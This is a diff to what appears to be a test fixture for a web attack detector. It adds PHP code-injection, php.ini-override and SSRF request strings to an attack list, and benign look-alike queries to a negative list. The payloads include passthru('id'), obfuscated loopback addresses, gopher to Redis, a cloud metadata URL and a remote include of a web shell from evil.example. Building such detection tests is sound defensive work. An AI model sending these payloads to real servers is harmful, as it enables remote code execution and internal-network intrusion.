@@ -53,6 +53,17 @@ ATTACKS = {
         "/x?q=${env:AWS_SECRET_ACCESS_KEY}",
         "/x?q=${${lower:j}ndi:dns://x}",
         "/x?q=require(%27child_process%27).exec(%27id%27)",
+        # a PHP function call standing as code stands, even with an everyday name or comments before its '('
+        "/x?q=str_rot13()",
+        "/x/md5(1)",
+        "/x?q=readfile%23x%0A(%27/etc/hosts%27)",
+        "/x?q=%27passthru%27(%27id%27)",
+        "/x?q=FOObase64_decode()",
+        # php.ini directives set through a value, $ { } variable-variables, data: URIs, scheme-less internal hosts
+        "/x?cfg=allow_url_include%3DOn",
+        "/x?cfg=auto_prepend_file=/tmp/x",
+        "/x?q=$%20{%20HOME%20}",
+        "/x?src=data:application/x-httpd-php,x",
     ],
     "xss": [
         "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
@@ -68,6 +79,14 @@ ATTACKS = {
         "/index.php?include=https://evil.example/c99.php",
         "/timthumb.php?src=http://66.240.183.75/crash.php",
         "/fetch?url=http://169.254.169.254/latest/meta-data/",
+        "/fetch?url=gateway.docker.internal/admin",
+        "/fetch?url=localhost:8080",
+        # an address in any notation a resolver accepts, under any scheme a fetch library opens
+        "/fetch?url=gopher://0x7f.0x0.0x0.0x1:6379/_INFO",
+        "/fetch?url=imap://2130706433/",
+        "/fetch?url=http://0177.1/",
+        "/fetch?url=rsync://[::ffff:127.0.0.1]/x",
+        "/fetch?url=http://%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0/",
     ],
 }
 PROSE = {
@@ -75,10 +94,15 @@ PROSE = {
              "/search?q=1+or+2+bedroom+apartments", "/search?q=delete+from+my+account"],
     "command": ["/search?q=tom+%26+jerry", "/search?q=cat+food", "/search?q=terms%3B+more+info",
                 "/search?q=bash+scripting+for+beginners"],
-    "code": ["/search?q=the+system+(2020+film)", "/wiki/Log4j", "/search?q=%7B%7Bname%7D%7D+braces"],
+    "code": ["/search?q=the+system+(2020+film)", "/wiki/Log4j", "/search?q=%7B%7Bname%7D%7D+braces",
+             "/search?q=how+to+use+substr()+in+php", "/docs/printf()-format-strings", "/files/report(1).pdf",
+             "/x?link=${WEBLOC}/view.php", "/search?q=exec+(", "/search?q=memory+limit+=+512M",
+             "/x?q=data+science"],
     "xss": ["/search?q=javascript%3A+the+good+parts", "/x?q=%3Ca+href=%22/foo.html%22%3Efoo%3C/a%3E",
             "/x?q=%3Cb%3Ebold%3C/b%3E"],
-    "rfi": ["/redirect?url=https://www.example.com/welcome", "/img?src=https://cdn.example.com/logo.png"],
+    "rfi": ["/redirect?url=https://www.example.com/welcome", "/img?src=https://cdn.example.com/logo.png",
+            "/x?server=localhost", "/x?u=ftp://ftp.example.org/pub/", "/x?at=time:10.30",
+            "/x?u=spotify:track:6rqhFgbbKwnb9MLmUQDhG6", "/x?color=0xABCDEF"],
 }  # fmt: skip
 
 
